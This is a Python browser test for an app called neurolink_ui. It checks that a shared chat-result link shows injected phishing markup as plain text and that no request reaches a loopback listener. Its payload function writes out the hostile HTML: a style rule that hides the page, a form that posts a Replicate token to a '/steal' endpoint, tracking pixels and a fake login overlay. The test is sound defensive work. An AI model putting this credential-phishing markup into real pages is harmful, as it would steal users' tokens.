"""Issue 20 item 3 in Chromium: a shared link whose prompt, answer and notes carry phishing
markup (a page-hiding `<style>`, a token form posting elsewhere, a tracking pixel) shows that
markup as text. No element of it reaches the DOM, and nobody connects to the pixel's host (a
second listener on loopback that records every connection)."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import TOKEN
from helpers import free_port
from launched import LaunchedApp
from test_browser import browser  # noqa: F401  (a fixture: used by name)

from neurolink_ui.config import Settings
from neurolink_ui.results import NewResult, new_history_id

pytestmark = [pytest.mark.browser, pytest.mark.slow]


class Recorder:
    """A loopback listener that records whoever connects (and answers nothing)."""

    def __init__(self) -> None:
        self.port = free_port()
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", self.port))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join(timeout=5)
        self.sock.close()


def payload(host: str, tag: str) -> str:
    return (
        f"<style>body {{ display: none !important }} .nl-{tag} {{ color: red }}</style>"
        f'<form id="steal-{tag}" action="http://{host}/steal">'
        f'<input id="token-{tag}" name="token" placeholder="Paste your Replicate token">'
        f'<button id="send-{tag}">Send</button></form>'
        f'<img id="pixel-{tag}" src="http://{host}/pixel-{tag}.png">'
        f'<div id="box-{tag}" style="position:fixed;inset:0;background:white">Login</div>'
        f"\n\n![pixel](http://{host}/md-pixel-{tag}.png)"
    )


@pytest.fixture(scope="module")
def app(simulator_session, tmp_path_factory) -> Iterator[LaunchedApp]:  # type: ignore[no-untyped-def]
    settings = Settings(api_token=TOKEN, base_url=simulator_session.base_url, poll_cap=60)
    launched = LaunchedApp(settings, tmp_path_factory.mktemp("outputs"))
    yield launched
    launched.close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    listener = Recorder()
    yield listener
    listener.close()


def test_a_shared_link_shows_visitor_and_model_markup_as_text(  # type: ignore[no-untyped-def]
    app: LaunchedApp,
    recorder: Recorder,
    browser,  # noqa: F811
    tmp_path: Path,
) -> None:
    from playwright.sync_api import expect

    host = f"127.0.0.1:{recorder.port}"
    history = new_history_id()
    kept = app.ctx.results.add(
        history,
        NewResult(
            kind="chat",
            model="openai/gpt-5-mini",
            prompt=payload(host, "prompt"),
            input={"prompt": "hello"},
            text=payload(host, "answer") + "\n\n```html\n<b>code stays code</b>\n```",
            notes=(payload(host, "note"),),
        ),
    )
    share_id = app.ctx.results.share(history, kept.id)
    assert share_id

    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(f"{app.url}?result={share_id}", wait_until="load")
    expect(page.get_by_text("Shared chat result")).to_be_visible(timeout=30_000)
    expect(page.get_by_text("Paste your Replicate token").first).to_be_visible()  # as text
    expect(page.get_by_text("<b>code stays code</b>").first).to_be_visible()  # code as code
    for tag in ("prompt", "answer", "note"):
        for element in ("steal", "token", "send", "pixel", "box"):
            assert page.locator(f"#{element}-{tag}").count() == 0, f"{element}-{tag} is live"
    assert page.locator("form[action*='steal']").count() == 0
    assert page.locator(f"img[src*='{recorder.port}']").count() == 0
    assert page.locator("style", has_text="display: none").count() == 0
    assert page.locator("body").is_visible()
    # The app keeps serving, and nothing was fetched from the pixel's host.
    page.reload(wait_until="load")
    expect(page.get_by_text("Shared chat result")).to_be_visible(timeout=30_000)
    page.close()
    assert recorder.connections == 0
